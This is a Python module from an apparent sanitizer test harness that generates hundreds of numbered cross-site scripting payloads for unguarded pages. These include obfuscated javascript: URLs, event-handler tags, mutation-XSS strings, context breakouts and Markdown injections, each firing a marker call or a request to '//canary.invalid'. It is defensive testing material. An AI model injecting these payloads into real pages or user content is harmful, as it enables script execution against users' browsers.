"""Texts that try to run a script in a reader's browser: our own table of shapes and encodings.

Each payload has a number and does one thing that can be told from outside: it calls `__hit(number)`, opens a
dialog, or asks a host that is not ours for `/number`. `where` says in which place of an unguarded page it runs.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import TYPE_CHECKING

import markdown

if TYPE_CHECKING:
    from collections.abc import Iterator

FAR = "//canary.invalid"
_JS, _N = "@JS@", "@N@"  # what a shape has in place of the call and the number
_SCRIPT = f"<script>{_JS}</script>"
_IMG = f"<img src=x onerror={_JS}>"
_JS_URL = f"javascript:{_JS}"

# Where a payload stands when nothing guards it; the place is marked by %s.
PLACES = {
    "html": "<body>%s",
    "href": '<a href="%s">x</a>',
    "double": '<a title="%s">x</a>',
    "single": "<a title='%s'>x</a>",
    "bare": "<a href=%s>x</a>",
    "title": "<title>%s</title>",
    "textarea": "<textarea>%s</textarea>",
    "style": "<style>p{content:'%s'}</style>",
    "comment": "<!-- %s -->",
    "json": '<script type="application/ld+json">{"name":"%s"}</script>',
    "string": '<script>var name = "%s"</script>',
    "line": "<script>// %s\n</script>",
    "literal": "<script>var name = `%s`</script>",
    "srcset": '<img srcset="%s">',
    "css": '<p style="background:%s">x</p>',
    "markdown": "<body>%s",
    "xml": "<feed><title>%s</title></feed>",
    "cdata": "<feed><title><![CDATA[%s]]></title></feed>",
}
_EXTENSIONS = ("tables", "footnotes", "attr_list", "def_list", "abbr", "fenced_code", "md_in_html", "toc")


@dataclass(frozen=True, slots=True)
class Payload:
    """One text. `inert` says why Chromium runs nothing of it, although other programs did or do."""

    number: int
    where: str
    text: str
    inert: str = ""


# --- URLs: the scheme, written in every way that a browser reads

_BLOCKED = "Chromium lets no page lead its window to a data: address"
_UNKNOWN = "no scheme of Chromium's"
_PATH = "Chromium takes it for a path"
_LETTERS = "".join(f"&#{ord(char)};" for char in "javascript")
_DATA = f"data:text/html;base64,{_N}"

URLS: dict[str, str] = {
    _JS_URL: "",
    f"JaVaScRiPt:{_JS}": "",
    f"JAVASCRIPT:{_JS}": "",
    f"&#106;avascript:{_JS}": "",
    f"&#0000106avascript:{_JS}": "",
    f"&#x6a;avascript:{_JS}": "",
    f"&#X6A;avascript:{_JS}": "",
    f"&#x0000006avascript:{_JS}": "the letters after it are read as digits",
    f"{_LETTERS}:{_JS}": "",
    f"javascript&colon;{_JS}": "",
    f"javascript&#58;{_JS}": "",
    f"javascript&#x3A{_JS}": "",
    f"java&Tab;script:{_JS}": "",
    f"java&NewLine;script:{_JS}": "",
    f"java&#10;script:{_JS}": "",
    f"java&#x0D;script:{_JS}": "",
    f"java\tscript:{_JS}": "",
    f"java\nscript:{_JS}": "",
    f"java&#9&#10&#13;script&#9:{_JS}": "",
    f" javascript:{_JS}": "",
    f"\x01javascript:{_JS}": "",
    f"&#1;javascript:{_JS}": "",
    f"&#14; javascript:{_JS}": "",
    f"\x1f\x0cjavascript:{_JS}": "",
    f"javascript:&lpar;0,{_JS}&rpar;": "",
    "javascript:%5f%5fhit(@N@)": "",
    f"javascript://host/%0A{_JS}": "",
    f"javascript:/**/{_JS}//https://": "",
    f"javascript:'/*\"/*`/*--></title></style></textarea>*/;0;{_JS}//": "the quote is never closed",
    f"javascript:/*--></title></style></textarea>*/{_JS}//": "",
    f"\u00a0javascript:{_JS}": _PATH,
    f"\u200bjavascript:{_JS}": _PATH,
    f"java\u2028script:{_JS}": _PATH,
    f"java&#0;script:{_JS}": _PATH,
    f"java%73cript:{_JS}": _PATH,
    f"javascript\\u003a{_JS}": _PATH,
    f"java\\script:{_JS}": _PATH,
    f"javascript&amp;colon;{_JS}": _PATH,
    f"data:text/html,{_SCRIPT}": _BLOCKED,
    _DATA: _BLOCKED,
    f"DATA&colon;text/html,{_SCRIPT}": _BLOCKED,
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_JS}'/>": _BLOCKED,
    f"vbscript:{_JS}": _UNKNOWN,
    f"vb\tscript:{_JS}": _UNKNOWN,
    f"livescript:{_JS}": _UNKNOWN,
    f"view-source:javascript:{_JS}": "Chromium lets no page lead there",
    f"feed:javascript:{_JS}": _UNKNOWN,
}

# --- elements that run something by themselves, or when they are touched

_HANDLERS = (
    "onerror=%s>", "OnErRoR=%s>", 'onerror="%s">', "onerror='%s'>", "onerror\n=\n%s>", "onerror\x0c=\x0c%s>",
)  # fmt: skip
_ESCAPED_CALLS = (
    "&#95;&#95;hit(@N@)", "&#x5f;&#x5f;hit(@N@)", "&lowbar;&lowbar;hit&lpar;@N@&rpar;", "\\u005f\\u005fhit(@N@)",
    "&#0000095_hit(@N@)", "window['__hit'](@N@)", "top.__hit`@N@`", "alert(@N@)", "console.log(`__hit`+@N@)",
    f"import(`{FAR}/@N@`)", f"new/**/Image().src=`{FAR}/@N@`", f"location=`{FAR}/@N@`", "setTimeout(`__hit(@N@)`)",
)  # fmt: skip
ELEMENTS: dict[str, str] = {
    **{f"<img src=x {handler.replace('%s', _JS)}": "" for handler in _HANDLERS},
    **{f'<img src=x onerror="{call}">': "" for call in _ESCAPED_CALLS},
    f"<img src=x onerror=`{_JS}`>": "a template literal, and no call",
    f"<img/src=x/onerror={_JS}>": "the slash ends no unquoted value",
    f"<img/src='x'/onerror={_JS}>": "",
    f"<img src onerror={_JS} src=x>": "",
    f"<image src=x onerror={_JS}>": "",
    f"<img src=x\nalt='\n'\nonerror={_JS}\n": "the tag is never closed",
    _SCRIPT: "",
    f"<ScRiPt>{_JS}</sCrIpT>": "",
    f"<script\n>{_JS}</script\n>": "",
    f"<script/x>{_JS}</script/x>": "",
    f"<script>{_JS}": "a script that is never closed",
    f"<script src={FAR}/{_N}></script>": "",
    f"<script src='data:text/javascript,{_JS}'></script>": "",
    f"<script type=module>{_JS}</script>": "",
    f"<script type='text/javascript;x'>{_JS}</script>": "no type of a script",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>": "no script unless a filter takes out the inner one",
    f"<<script>{_JS}//<</script>": "",
    f"<script>/*<!--*/{_JS}</script>": "",
    f"<noscript><p title='</noscript>{_IMG}'>": "",
    f"<svg onload={_JS}>": "",
    f"<svg/onload={_JS}>": "",
    f"<body onload={_JS}>": "",
    f"<body onpageshow={_JS}>": "",
    f"<html onclick={_JS}>": "",
    f"<style onload={_JS}></style>": "",
    f"<link rel=stylesheet href=x onerror={_JS}>": "",
    f"<video src=x onerror={_JS}></video>": "",
    f"<video><source src=x onerror={_JS}></video>": "",
    f"<audio src=x onerror={_JS}></audio>": "",
    f"<iframe onload={_JS}></iframe>": "",
    f"<object data=x onerror={_JS}></object>": "",
    f"<input autofocus onfocus={_JS}>": "",
    f"<select autofocus onfocus={_JS}></select>": "",
    f"<textarea autofocus onfocus={_JS}></textarea>": "",
    f"<button onclick={_JS}>x</button>": "",
    f"<input type=image src=x onerror={_JS}>": "",
    f"<details open ontoggle={_JS}><summary>x</summary></details>": "",
    f"<marquee onstart={_JS}>x</marquee>": "gone from Chromium",
    f"<a href=# onmouseover={_JS}>x</a>": "",
    f"<p tabindex=0 onfocus={_JS}>x</p>": "",
    f"<p onclick={_JS}>x</p>": "",
    f"<b/onpointerover={_JS}>x</b>": "",
    f"<x onclick={_JS}>x</x>": "",
    f"<div contenteditable onfocus={_JS}>x</div>": "",
    f"<form onsubmit={_JS}><button>x</button></form>": "",
    f"<style>@keyframes k{{}}</style><x style=animation-name:k onanimationstart={_JS}>x</x>": "",
    f"<dialog open><button autofocus onfocus={_JS}>x</button></dialog>": "",
    f"<label onmousedown={_JS}>x</label>": "",
    f"<template shadowrootmode=open>{_IMG}</template>": "",
    f"<div><template shadowrootmode=open>{_IMG}</template></div>": "",
    f"<template>{_SCRIPT}</template>": "a template runs nothing until somebody copies it",
    f"<svg><animate attributeName=x dur=1s onbegin={_JS}>": "",
    f"<svg><set attributeName=x dur=1s onbegin={_JS}>": "",
    f"<svg><script>{_JS}</script></svg>": "",
    f"<svg><script>&#95;_hit({_N})</script></svg>": "",
    f"<svg><script href=data:text/javascript,{_JS} /></svg>": "",
    f"<svg><image href=x onerror={_JS} /></svg>": "",
    f"<math><mtext onclick={_JS}>x</mtext></math>": "",
}

# --- elements that lead or load

LEADING: dict[str, str] = {
    f"<a href={_JS_URL}>x</a>": "",
    f"<a href='{_JS_URL}' target=_blank rel=opener>x</a>": "a new window needs a person's own click",
    f"<map name=m><area href={_JS_URL} shape=default></map><img usemap=#m src=x>": "",
    f"<form action={_JS_URL}><button>x</button></form>": "",
    f"<form><button formaction={_JS_URL}>x</button></form>": "",
    f"<form id=f></form><input type=submit form=f formaction={_JS_URL}>": "",
    f"<form action={FAR}/{_N}><input name=q><button>x</button></form>": "",
    f"<iframe src={_JS_URL}></iframe>": "",
    f"<iframe src='data:text/html,{_SCRIPT}'></iframe>": "",
    f'<iframe srcdoc="{_SCRIPT}"></iframe>': "",
    f"<iframe srcdoc='&lt;img src=x onerror=&#34;{_JS}&#34;&gt;'></iframe>": "",
    f"<iframe srcdoc=&#60;script&#62;{_JS}&#60;/script&#62;></iframe>": "",
    f"<frameset><frame src={_JS_URL}></frameset>": "no frames after the body has begun",
    f"<object data='data:text/html,{_SCRIPT}'></object>": "",
    f"<embed src='data:text/html,{_SCRIPT}'>": "",
    f"<object data={_JS_URL}></object>": "Chromium runs no script from object",
    f"<embed src={_JS_URL}>": "Chromium runs no script from embed",
    f"<base href={FAR}/{_N}/><img src=x>": "",
    f"<base href='{_JS_URL}//'><a href=#>x</a>": "no base with that scheme",
    f"<meta http-equiv=refresh content='0;url={FAR}/{_N}'>": "",
    f"<meta http-equiv=refresh content='0;url={_JS_URL}'>": "no refresh to that scheme",
    f"<meta http-equiv=refresh content='0;url=data:text/html,{_SCRIPT}'>": _BLOCKED,
    f"<svg><a xlink:href={_JS_URL}><text y=20>x</text></a></svg>": "",
    f"<svg><a href={_JS_URL}><rect width=9 height=9 /></a></svg>": "",
    f"<svg><a><animate attributeName=href values={_JS_URL} /><text y=20>x</text></a></svg>": "",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_JS} />#x' /></svg>": "Chromium uses nothing from data:",
    f"<math href={_JS_URL}>x</math>": "Chromium's formulas do not lead",
    f"<link rel=stylesheet href={FAR}/{_N}>": "",
    f"<link rel=preload as=image href={FAR}/{_N}>": "",
    f"<link rel=import href={FAR}/{_N}>": "gone from Chromium",
    f"<a href=# ping={FAR}/{_N}>x</a>": "",
    f"<q cite={_JS_URL}>x</q>": "nobody follows cite",
    f"<img srcset='{FAR}/{_N} 1x'>": "",
    f"<picture><source srcset={FAR}/{_N}><img src=x></picture>": "",
    f"<video poster={FAR}/{_N}></video>": "",
    f"<table background={FAR}/{_N}><tr><td>x</table>": "",
    f"<input type=image src={FAR}/{_N}>": "",
    f"<svg><image href={FAR}/{_N} width=9 height=9 /></svg>": "",
    f"<img src=https:{FAR}/{_N}.png>": "",
    f"<img lowsrc={_JS_URL} dynsrc={_JS_URL} src={_JS_URL}>": "Chromium runs no script as a picture",
    f"<p style=background:url({FAR}/{_N})>x</p>": "",
    f'<p style="background:\\75rl({FAR}/{_N})">x</p>': "",
    f"<p style=background:url({_JS_URL})>x</p>": "Chromium runs no script from a style",
    f"<p style=width:expression({_JS})>x</p>": "gone with Internet Explorer",
    f"<p style=behavior:url({FAR}/{_N})>x</p>": "gone with Internet Explorer",
    f"<style>@import '{FAR}/{_N}';</style>": "",
    f"<style>*{{background:url({FAR}/{_N})}}</style>": "",
    f"<style>@import '{_JS_URL}';</style>": "Chromium runs no script from a style",
}

# --- texts that change their meaning between two readers: namespaces, raw text, comments

MUTATING: dict[str, str] = {
    f'<svg></p><style><a id="</style>{_IMG}">': "",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">': "it runs when it is parsed a second time",
    f"<math><mi><style><!--</style>{_IMG}-->": "",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}": "it runs when it is parsed a second time",
    f"<math><annotation-xml encoding=text/html>{_IMG}</annotation-xml></math>": "",
    f"<math><annotation-xml><style>{_IMG}</style></annotation-xml></math>": "",
    f"<svg><foreignObject>{_IMG}</foreignObject></svg>": "",
    f"<svg><title>{_IMG}</title></svg>": "",
    f"<svg><desc><style>{_IMG}</style></desc></svg>": "raw text within raw text",
    f"<svg><style>{_IMG}</style></svg>": "",
    f"<svg><style>&lt;img src=x onerror={_JS}&gt;</style></svg>": "it runs when it is parsed a second time",
    f"<svg><![CDATA[><img src=x onerror={_JS}>]]></svg>": "text within svg",
    f"<svg></svg><![CDATA[>{_IMG}]]>": "",
    f"<![CDATA[{_IMG}]]>": "the comment ends with the tag",
    f'<title><p title="</title>{_IMG}">': "",
    f'<textarea><p title="</textarea>{_IMG}">': "",
    f'<style><p title="</style>{_IMG}">': "",
    f'<xmp><p title="</xmp>{_IMG}">': "",
    f'<iframe><p title="</iframe>{_IMG}">': "",
    f'<noembed><p title="</noembed>{_IMG}">': "",
    f'<noframes><p title="</noframes>{_IMG}">': "",
    f"<select><style></select>{_IMG}</style>": "raw text to the end of the style",
    f"<table><tr><td>{_IMG}": "",
    f"<table>{_IMG}</table>": "",
    f"<option><style></option></select>{_IMG}</style>": "raw text to the end of the style",
    f"<plaintext>{_IMG}": "all that follows is text",
    f"<!-->{_IMG}-->": "",
    f"<!--->{_IMG}-->": "",
    f"<!-- --!>{_IMG}-->": "",
    f"<!--\n-- ><!-- -->{_IMG}": "",
    f"<!{_IMG}>": "the comment ends with the tag",
    f"<?xml >{_IMG}?>": "",
    f"</ x>{_IMG}": "",
    f"<!DOCTYPE x [<!ENTITY y '>{_IMG}'>]>": "",
    f"<!--[if gte IE 4]>{_SCRIPT}<![endif]-->": "a comment, but for Internet Explorer",
    f"<a title='-->{_IMG}'>x</a>": "within quotes",
    f'<p title="`><img src=x onerror={_JS}>">x': "within quotes",
    f"<b <script>{_JS}</script>0": "the tag ends after its name",
    f"<a<b>{_IMG}": "",
    f"\ufeff{_SCRIPT}": "",
    f"<\x00script>{_JS}</script>": "no tag begins with a nought",
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e": "letters that only look like tags",
    f"&lt;script&gt;{_JS}&lt;/script&gt;": "text, unless somebody reads it twice",
    f"&amp;lt;img src=x onerror={_JS}&amp;gt;": "text, unless somebody reads it thrice",
    f"\\u003cimg src=x onerror={_JS}\\u003e": "text outside of a script",
    f"%3Cimg src=x onerror={_JS}%3E": "text outside of an address",
    f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-": "UTF-7 is gone from Chromium",
}  # fmt: skip

# --- texts that leave the place where they were put

BREAKOUTS: dict[str, dict[str, str]] = {
    "double": {
        f'">{_SCRIPT}': "",
        f'"><img src=x onerror="{_JS}': "",
        f'" tabindex=0 onfocus="{_JS}': "",
        f'"onmouseover="{_JS}': "",
        f"&quot;><img src=x onerror={_JS}>": "an escaped quote ends nothing",
    },
    "single": {
        f"'>{_SCRIPT}": "",
        f"' tabindex=0 onfocus='{_JS}": "",
        f"'onclick='{_JS}": "",
    },
    "bare": {
        f"x onmouseover={_JS}": "",
        f"x\tonclick={_JS} ": "",
        f"x/onclick={_JS}": "the slash ends no unquoted value",
        f"`onclick={_JS}`": "a back quote ends nothing",
        f"`x` onclick={_JS}": "",
        f"x>{_SCRIPT}": "",
    },
    "title": {f"</title>{_SCRIPT}": ""},
    "textarea": {f"</textarea>{_SCRIPT}": ""},
    "style": {f"</style>{_SCRIPT}": "", f"'}}*{{background:url({FAR}/{_N})}}q{{content:'": ""},
    "comment": {f"-->{_SCRIPT}": "", f"--!>{_SCRIPT}": ""},
    "json": {
        f"</script>{_SCRIPT}": "",
        f"</ScRiPt\n>{_SCRIPT}": "",
        f"</script/><svg onload={_JS}>": "",
        f"<!--<script>{_JS}": "a script that never ends",
        f"<!--<script></script>--></script>{_SCRIPT}": "",
        f'"}}</script>{_SCRIPT}': "",
    },
    "string": {
        f'";{_JS};"': "",
        f'"-{_JS}-"': "",
        f'\\";{_JS}//': "the backslash is one of the string's",
        f'\\\\";{_JS}//': "",
        f"\u2028{_JS}": "no line ends there within a string since ECMAScript 2019",
    },
    "line": {f"\u2028{_JS}": "", f"\u2029{_JS}//": "", f"\n{_JS}//": ""},
    "literal": {f"${{{_JS}}}": "", f"`-{_JS}-`": ""},
    "srcset": {f"{FAR}/{_N} 1x": "", f"x 1x,{FAR}/{_N} 2x": "the screen has no use for it"},
    "css": {f"url({FAR}/{_N})": "", f"red;background-image:url('{FAR}/{_N}')": ""},
    "xml": {
        f'<script xmlns="http://www.w3.org/1999/xhtml">{_JS}</script>': "",
        f'<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="{_JS}"/>': "",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_JS}"/>': "",
    },
    "cdata": {f']]><script xmlns="http://www.w3.org/1999/xhtml">{_JS}</script><![CDATA[': ""},
}

# --- Markdown: marks that become elements, addresses and attributes

MARKDOWN: dict[str, str] = {
    f"[x]({_JS_URL})": "",
    f"[x](<{_JS_URL}>)": "",
    f"[x]( {_JS_URL} )": "",
    f"[x](JaVaScRiPt:{_JS})": "",
    f"[x](java&#115;cript:{_JS})": "",
    f"[x](javascript&colon;{_JS})": "",
    f"[x](java\tscript:{_JS})": "tabs become blanks",
    f"[x](\x01javascript:{_JS})": "",
    f"[x](java\\script:{_JS})": _PATH,
    f"[x](javascript\\:{_JS})": "the backslash stays",
    f'[x]({_JS_URL} "title")': "",
    f"[*x*]({_JS_URL})": "",
    f"[![x](x)]({_JS_URL})": "",
    f"## [x]({_JS_URL})": "",
    f"> - [x]({_JS_URL})": "",
    f"| a | b |\n|---|---|\n| [x]({_JS_URL}) | {_IMG} |": "",
    f"[x][r]\n\n[r]: {_JS_URL}": "",
    f"[r]\n\n[r]: <{_JS_URL}> 'x'": "",
    f'[x][r]\n\n[r]: /x "x\\" onclick=\\"{_JS}"': "Python-Markdown escapes it",
    f"<javascript:{_JS}>": "no automatic link with that scheme",
    f"<javascript://x/%0A{_JS}>": "",
    f'<x"onclick={_JS}@y.example>': "Python-Markdown escapes it",
    f'<http://x.example/"onmouseover={_JS}>': "Python-Markdown escapes it",
    f'[x](/y "z\\" onmouseover=\\"{_JS}")': "Python-Markdown escapes it",
    f"[x](/y 'z\" onmouseover=\"{_JS}')": "Python-Markdown escapes it",
    f'[x](/y"onmouseover="{_JS})': "Python-Markdown escapes it",
    f'![x](x"onerror="{_JS})': "Python-Markdown escapes it",
    f'![x" onerror="{_JS}](x)': "Python-Markdown escapes it",
    f"![x]({_JS_URL})": "Chromium runs no script as a picture",
    f"![x](https:{FAR}/{_N}.png)": "",
    f'*x*{{onclick="{_JS}"}}': "",
    f'[x](/y){{href="{_JS_URL}"}}': "",
    f'[x](/y){{: onmouseover="{_JS}" }}': "",
    f'![x](y){{onerror="{_JS}"}}': "",
    f'![x](y){{src="{FAR}/{_N}"}}': "",
    f'## x {{onclick="{_JS}"}}': "",
    f'x\n{{: onclick="{_JS}" style="color:red" }}': "",
    f'*x*{{style="background:url({FAR}/{_N})"}}': "",
    f'- x\n{{: onclick="{_JS}" }}': "",
    f"x[^1]\n\n[^1]: {_IMG}": "",
    f"x[^1]\n\n[^1]: [x]({_JS_URL})": "",
    f'x[^"onclick={_JS}]\n\n[^"onclick={_JS}]: y': "Python-Markdown escapes it",
    f"Term\n: {_IMG}": "",
    f'*[abc]: " onclick="{_JS}\n\nabc': "Python-Markdown escapes it",
    f'```{{ onclick="{_JS}" }}\n{_IMG}\n```': "",
    f"```x\n</code></pre>{_IMG}\n```": "code is text",
    f"`</code>{_IMG}`": "code is text",
    f"    {_IMG}": "code is text",
    f"<div markdown=1>[x]({_JS_URL})</div>": "",
    f"<div>\n\n{_IMG}\n\n</div>": "",
    f"<a href='{_JS_URL}'>*x*</a>": "",
    f"[x](https://x.example/<img/src='x'/onerror={_JS}>)": "Python-Markdown escapes it",
    f"[x]({_JS_URL}\n)": "",
    f"&lt;img src=x onerror={_JS}&gt;": "text",
    f"\\<img src=x onerror={_JS}>": "",
    f"\\\\{_IMG}": "",
    f"wzxhzdk:0 {_IMG}\x02wzxhzdk:0\x03": "",
    f"klzzwxh:0000 \x02klzzwxh:0000\x03 {_IMG}": "",
    f"[TOC]\n\n## x {_IMG}": "",
}


def payloads() -> tuple[Payload, ...]:
    """All of them, numbered from 1."""
    found: list[Payload] = []
    for where, shape, inert in _shapes():
        number = len(found) + 1
        found.append(Payload(number, where, _filled(shape, number), inert))
    return tuple(found)


def _shapes() -> Iterator[tuple[str, str, str]]:
    yield from (("href", shape, inert) for shape, inert in URLS.items())
    for table in (ELEMENTS, LEADING, MUTATING):
        yield from (("html", shape, inert) for shape, inert in table.items())
    for where, table in BREAKOUTS.items():
        yield from ((where, shape, inert) for shape, inert in table.items())
    yield from (("markdown", shape, inert) for shape, inert in MARKDOWN.items())


def _filled(shape: str, number: int) -> str:
    if shape == _DATA:
        script = f"<script>__hit({number})</script>".encode()
        return shape.replace(_N, base64.b64encode(script).decode())
    return shape.replace(_JS, f"__hit({number})").replace(_N, str(number))


def unguarded(payload: Payload) -> tuple[str, str]:
    """A page, and the suffix of its file, in which nothing stands between a payload and the browser."""
    text = payload.text
    if payload.where == "markdown":
        text = markdown.markdown(text, extensions=list(_EXTENSIONS))
    page = PLACES[payload.where].replace("%s", text, 1)
    if payload.where in ("xml", "cdata"):
        return page, ".xml"
    return f'<!doctype html><meta charset="utf-8">{page}', ".html"
